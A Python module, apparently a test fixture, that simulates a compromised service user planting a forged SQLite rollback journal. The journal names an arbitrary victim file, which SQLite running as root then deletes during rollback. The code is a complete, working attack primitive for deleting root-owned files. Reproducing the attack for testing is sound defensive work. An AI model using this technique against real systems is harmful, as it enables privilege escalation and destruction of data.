"""What whoever took a service over leaves in its folders for root to stumble over."""

import os
import shutil
import struct
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

_PAGE = 4096
_MAGIC = bytes.fromhex(
    "d9d505f920a163d7"
)  # https://www.sqlite.org/fileformat2.html#the_rollback_journal
SERVICE = 4242  # the number of a user that no host has


@contextmanager
def open_folder() -> Iterator[Path]:
    """Lend a folder that every user may go through, as /var/lib is."""
    folder = Path(tempfile.mkdtemp(dir="/tmp"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


def give_all(folder: Path) -> None:
    """Let everything in a folder belong to the service's user."""
    for path in [folder, *folder.rglob("*")]:
        os.chown(path, SERVICE, SERVICE, follow_symlinks=False)


def plant_journal(database: Path, victim: Path) -> None:
    """Leave a journal that names a file which SQLite removes when it has rolled back."""
    # Nobody may hold a lock on the file: a copy takes its place.
    shutil.copyfile(database, new := database.with_name("new"))
    new.rename(database)
    named, pages = os.fsencode(victim), database.stat().st_size // _PAGE
    head = _MAGIC + struct.pack(">IIIII", 0, 1, pages, 512, _PAGE)
    end = struct.pack(">I", 0x40000000 // _PAGE + 1) + named
    end += struct.pack(">II", len(named), sum(named)) + _MAGIC
    database.with_name(database.name + "-journal").write_bytes(head.ljust(512, b"\0") + end)
